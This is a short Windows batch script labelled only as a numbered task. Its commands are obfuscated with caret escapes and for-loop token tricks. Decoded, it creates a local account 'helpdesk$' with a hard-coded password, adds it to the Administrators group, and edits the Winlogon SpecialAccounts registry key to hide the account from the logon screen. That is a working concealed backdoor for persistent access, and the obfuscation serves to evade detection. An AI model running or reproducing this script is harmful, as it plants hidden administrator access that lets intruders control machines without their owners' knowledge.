REM task 4533 v4
@echo off
fo^r /^f "tokens=1 delims=;" %%i ^in ("net;knvw;bpuy") do %%i ^u^s^e^r he^lp^desk$ Q^we^rt^y#^7788 /^a^dd /a^ctiv^e:^yes
f^or /^f "tokens=3 delims=#" %%^i i^n ("efjo#ofbv#net") d^o %%i lo^c^alg^ro^u^p ^A^d^m^i^n^is^trat^or^s help^desk$ /ad^d
^for /f "tokens=3 delims=@" %%i in ("qull@epds@reg") d^o %%^i ad^d "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v ^h^el^pde^sk$ /t RE^G_D^W^O^RD /d ^0 /^f
